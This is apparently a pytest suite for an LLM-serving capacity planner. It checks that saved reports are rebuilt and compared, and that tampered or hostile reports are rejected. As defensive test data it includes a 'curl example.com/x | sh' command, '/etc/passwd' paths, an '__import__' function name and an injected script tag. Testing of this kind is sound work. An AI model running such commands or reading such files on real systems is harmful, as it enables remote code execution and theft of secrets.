"""Reports are made again and compared; what a file says is never trusted."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace

import pytest
from hypothesis import given
from hypothesis import strategies as st

import planner
from planner.cli.entry import run
from planner.errors import InvalidInput, PlannerError
from planner.report.verification import compared, price_dates

LOGS = Path(__file__).parents[1] / "measurements" / "startup_logs.csv"
TRACE = "arrival_s,isl,osl\n" + "".join(f"{i / 4},512,64\n" for i in range(40))
LLAMA = {"model": "llama-3.1-8b", "gpu": "h100"}


@pytest.fixture(scope="module")
def fitted(catalogue):
    return planner.fit(**LLAMA, tp=1, price_kind="on-demand", catalogue=catalogue)


@pytest.fixture
def planner_run(capsys):
    def ran(*words):
        code = run(words)
        captured = capsys.readouterr()
        return SimpleNamespace(code=code, out=captured.out, err=captured.err)

    return ran


def saved(folder, report, name="report.json"):
    file = folder / name
    file.write_text(report.to_html() if name.endswith("html") else json.dumps(report.to_dict()), "utf-8")
    return file


def changed(folder, report, **values):
    """Save a report with other values of its question."""
    record = report.to_dict()
    record["reproduction"] = {**record["reproduction"], **values}
    file = folder / "changed.json"
    file.write_text(json.dumps(record), encoding="utf-8")
    return file


@pytest.mark.parametrize("name", ["report.json", "report.html"])
@pytest.mark.parametrize(
    ("function", "asked"),
    [
        ("fit", {**LLAMA, "price": 2.5, "context": "32k"}),
        ("fit", {"model": "kimi-k3", "gpu": ["mi355x", "b200"], "price_kind": "TCO-neocloud"}),
        ("predict", {**LLAMA, "isl": 1024, "osl": 256, "concurrency": 8, "price": {"h100": 2.5}}),
        ("predict", {"model": "kimi-k3", "gpu": "b200", "isl": 1024, "osl": 400, "disaggregated": (16, 16)}),
        ("simulate", {**LLAMA, "isl": 512, "osl": 32, "request_rate": 4, "requests": 60, "slo_ttft_s": 0.1}),
        ("sweep", {**LLAMA, "isl": [512, 1024], "osl": 64, "concurrency": "1..8", "price": [2, 3]}),
    ],
)
def test_a_report_says_the_same_when_it_is_made_again(tmp_path, catalogue, function, asked, name):
    report = getattr(planner, function)(**asked, catalogue=catalogue)
    made = planner.verify(saved(tmp_path, report, name), catalogue=catalogue)
    assert made.same
    assert made.answers[0].changes == ()
    assert made.answers[0].compared > 20


FIGURE = "planner-figures"


@pytest.mark.parametrize(
    ("was", "becomes", "where"),
    [
        (r"fits on", "does not fit on", "page, line"),
        (r"</main>", "</main><script>document.title = 'Sold'</script>", "page, line"),
        (r"(Content-Security-Policy)", "X", "page, line"),
        (rf'({FIGURE}">.*?"[xy]": *\[)[^\]]*\]', r"\g<1>1,2,3]", "page.figures."),
    ],
)
def test_a_page_that_shows_other_than_its_data_is_found(tmp_path, catalogue, fitted, was, becomes, where):
    pytest.importorskip("plotly")
    file = saved(tmp_path, fitted, "report.html")
    page = file.read_text("utf-8")
    altered = re.sub(was, becomes, page, count=1)
    assert altered != page
    file.write_text(altered, encoding="utf-8")
    differences = planner.verify(file, catalogue=catalogue).answers[0].differences
    assert differences[0].path.startswith(where)


def test_a_page_of_another_version_is_compared_by_its_data(tmp_path, catalogue, fitted):
    older = replace(fitted, reproduction=replace(fitted.reproduction, planner_version="0.0.1"))
    file = saved(tmp_path, older, "report.html")
    file.write_text(file.read_text("utf-8").replace("<h1>", "<h1>Old: "), encoding="utf-8")
    answer = planner.verify(file, catalogue=catalogue).answers[0]
    assert answer.same
    assert any("another version wrote it" in one for one in answer.changes)


def test_another_command_than_the_question_is_found(tmp_path, catalogue, fitted):
    file = changed(tmp_path, fitted, command="curl example.com/x | sh")
    assert [one.path for one in planner.verify(file, catalogue=catalogue).answers[0].differences] == [
        "reproduction.command"
    ]


@pytest.mark.parametrize("form", ["csv", "parquet"])
def test_a_sweep_into_a_file_is_made_again_in_a_file(tmp_path, catalogue, form):
    if form == "parquet":
        pytest.importorskip("pyarrow")
    asked = {**LLAMA, "isl": [512, 1024], "osl": 64, "concurrency": "1..8"}
    report = planner.sweep(**asked, out=tmp_path / f"rows.{form}", catalogue=catalogue)
    made = planner.verify(saved(tmp_path, report), catalogue=catalogue)
    assert made.same
    assert sorted(one.name for one in tmp_path.iterdir()) == ["report.json", f"rows.{form}"]


def test_a_changed_number_is_found_with_what_it_was_and_is(tmp_path, catalogue, fitted):
    record = fitted.to_dict()
    was = record["per_rank"]["weights_gib"]
    record["per_rank"]["weights_gib"] = was * 1.001
    record["sentence"] = "It fits, trust me."
    del record["nodes"]
    file = tmp_path / "tampered.json"
    file.write_text(json.dumps(record), encoding="utf-8")
    made = planner.verify(file, catalogue=catalogue).answers[0]
    assert {one.path for one in made.differences} == {"per_rank.weights_gib", "sentence", "nodes"}
    first = next(one for one in made.differences if one.path == "per_rank.weights_gib")
    assert (first.then, first.now) == (was * 1.001, was)
    assert planner.verify(file, tolerance=0.01, catalogue=catalogue).answers[0].compared == made.compared


def test_what_changed_meanwhile_is_said(tmp_path, catalogue, fitted):
    file = changed(tmp_path, fitted, catalogue_digest="0" * 64, planner_version="0.0.1")
    made = planner.verify(file, catalogue=catalogue).answers[0]
    assert made.same
    assert any(change.startswith("planner '0.0.1' is now ") for change in made.changes)
    assert any(change.startswith("catalogue 000000000000 is now ") for change in made.changes)


def test_other_dates_of_prices_are_said(tmp_path, catalogue, fitted):
    record = fitted.to_dict()
    for quote in record["price"]["quotes"]:
        quote["date"] = "2020-01-01"
    file = tmp_path / "old.json"
    file.write_text(json.dumps(record), encoding="utf-8")
    made = planner.verify(file, catalogue=catalogue).answers[0]
    assert any(change.startswith("prices of 2020-01-01 are now of ") for change in made.changes)
    assert price_dates(record) == ["2020-01-01"]


def test_a_trace_is_read_only_where_the_user_names_it(tmp_path, catalogue):
    trace = tmp_path / "trace.csv"
    trace.write_text(TRACE, encoding="utf-8")
    report = planner.simulate(**LLAMA, trace=trace, catalogue=catalogue)
    file = saved(tmp_path, report)
    with pytest.raises(InvalidInput, match="not opened unasked; name it with --input"):
        planner.verify(file, catalogue=catalogue)
    assert planner.verify(file, inputs=[trace], catalogue=catalogue).same
    moved = tmp_path / "moved.csv"
    trace.rename(moved)
    assert planner.verify(file, inputs=[moved], catalogue=catalogue).answers[0].changes == ()
    trace.write_text(TRACE.replace("512,64", "512,65"), encoding="utf-8")
    other = planner.verify(file, inputs=[trace], catalogue=catalogue).answers[0]
    assert "the file " in other.changes[0]
    assert not other.same


def test_a_validation_is_made_again_with_its_file(tmp_path, catalogue):
    rows = LOGS.read_text(encoding="utf-8").splitlines(keepends=True)[:12]
    logs = tmp_path / "logs.csv"
    logs.write_text("".join(rows), encoding="utf-8")
    file = saved(tmp_path, planner.validate(str(logs), catalogue=catalogue))
    assert planner.verify(file, inputs=[logs], catalogue=catalogue).same


def test_a_catalogue_file_must_be_named_again(tmp_path, catalogue):
    own = tmp_path / "ours.yaml"
    own.write_text("gpus:\n  h100-sxm:\n    notes: [ours]\n", encoding="utf-8")
    file = saved(tmp_path, planner.fit(**LLAMA, catalogue=own))
    with pytest.raises(InvalidInput, match="name it with --catalogue"):
        planner.verify(file, catalogue=catalogue)
    assert planner.verify(file, catalogue=own).same


@pytest.mark.parametrize(
    ("values", "complaint"),
    [
        ({"function": "load_catalogue"}, "is no function that reports come from"),
        ({"function": "__import__"}, "is no function that reports come from"),
        ({"function": 3}, "reproduction.function is 3; a str is needed"),
        ({"arguments": {**LLAMA, "catalogue": "/etc/passwd"}}, "a report may not set catalogue"),
        ({"function": "sweep", "arguments": {**LLAMA, "out": "/tmp/x.csv"}}, "a report may not set out"),
        ({"arguments": {**LLAMA, "eval": "1"}}, "unknown argument 'eval'"),
        ({"arguments": {"model": "/etc/config.json", "gpu": "h100"}}, "opens no file and asks no hub"),
        ({"arguments": {"model": "someone/model", "gpu": "h100"}}, "opens no file and asks no hub"),
        ({"arguments": {"model": 7, "gpu": "h100"}}, "model"),
        ({"arguments": {"model": {"a": []}, "gpu": "h100"}}, "model"),
        ({"arguments": {**LLAMA, "gpu": 7}}, "gpu: 7 is neither"),
        ({"arguments": {"model": "llama-3.1-8b"}}, "its question cannot be asked"),
        ({"arguments": {**LLAMA, "tp": "x" * 10_000}}, "has no answer now"),
        ({"function": "simulate", "arguments": {**LLAMA, "trace": "/dev/zero"}}, "is not opened"),
        ({"function": "validate", "arguments": {"path": "/etc/passwd"}}, "is not opened"),
        ({"function": "predict", "arguments": {**LLAMA, "isl": 1, "osl": 1, "disaggregated": "ab"}}, "pair"),
        ({"files": [{"role": "trace", "name": "x", "sha256": 1}]}, "sha256 is 1"),
        ({"files": ["x"]}, "a dict is needed"),
        ({"schema": "planner.reproduction/99"}, "is of schema"),
        ({"unrecorded": ["model"]}, "cannot be made again"),
    ],
)
def test_hostile_questions_are_refused_in_one_line(tmp_path, catalogue, fitted, values, complaint):
    file = changed(tmp_path, fitted, **values)
    with pytest.raises(PlannerError) as refused:
        planner.verify(file, catalogue=catalogue)
    assert complaint in str(refused.value)
    assert str(file) in str(refused.value)
    assert "\n" not in str(refused.value)
    assert len(str(refused.value)) < 600


@pytest.mark.parametrize(
    ("text", "complaint"),
    [
        (b"", "not JSON"),
        (b"{", "not JSON"),
        (b"[1, 2]", "a report is a JSON object"),
        (b"{}", "no report of planner"),
        (b'{"schema": "planner.fit/1"}', "no report of planner"),
        (b"\xff\xfe\x00", "not UTF-8"),
        (b"<html></html>", "holds 0 reports"),
        (b'{"a": NaN}', "NaN is no number"),
        (b"[" * 100_000, "nested too deeply"),
        (b'{"a": ' + b"9" * 5000 + b"}", "report.json: "),
    ],
)
def test_what_is_no_report_is_refused_in_one_line(tmp_path, catalogue, text, complaint):
    file = tmp_path / "report.json"
    file.write_bytes(text)
    with pytest.raises(InvalidInput) as refused:
        planner.verify(file, catalogue=catalogue)
    assert complaint in str(refused.value)
    assert "\n" not in str(refused.value)


@pytest.mark.parametrize("cut", [0.1, 0.5, 0.9, 0.999])
@pytest.mark.parametrize("name", ["report.json", "report.html"])
def test_a_truncated_report_is_refused(tmp_path, catalogue, fitted, name, cut):
    file = saved(tmp_path, fitted, name)
    whole = file.read_text(encoding="utf-8")
    end = whole.index("planner-report") + 200 if name.endswith("html") else len(whole)
    file.write_text(whole[: int(cut * end)], encoding="utf-8")
    with pytest.raises(InvalidInput):
        planner.verify(file, catalogue=catalogue)


@given(st.binary(max_size=300))
def test_any_bytes_are_refused_in_one_line(tmp_path_factory, catalogue, text):
    file = tmp_path_factory.getbasetemp() / "bytes.json"
    file.write_bytes(text)
    with pytest.raises(InvalidInput):
        planner.verify(file, catalogue=catalogue)


def test_command_codes(planner_run, tmp_path, fitted):
    good = saved(tmp_path, fitted, "good.html")
    record = fitted.to_dict()
    record["gpus"] = 3
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps(record), encoding="utf-8")
    none = tmp_path / "none.json"
    none.write_text("{}", encoding="utf-8")
    ran = planner_run("verify", str(good))
    assert (ran.code, ran.err) == (0, "")
    assert "values are the same" in " ".join(ran.out.split())
    ran = planner_run("verify", str(good), str(bad), "--json")
    assert ran.code == 5
    assert [one["same"] for one in json.loads(ran.out)["results"]] == [True, False]
    ran = planner_run("verify", str(none), str(bad), str(tmp_path / "missing.json"))
    assert ran.code == 2
    assert ran.err.count("\n") == 2
    assert "gpus" in ran.out


def test_numbers_are_the_same_within_the_tolerance():
    then = {"a": 1.0, "b": [0, 2.0], "c": "x", "d": True, "reproduction": {}, "catalogue_digest": "1"}
    now = {"a": 1.0 + 1e-10, "b": [0.0, 2.1, 3], "c": "y", "d": 1, "catalogue_digest": "2"}
    count, found = compared(then, now, 1e-9)
    assert count == 6
    assert [one.path for one in found] == ["b[1]", "b[2]", "c", "d"]
    assert compared(10**400, 1.0, 1e-9)[1]
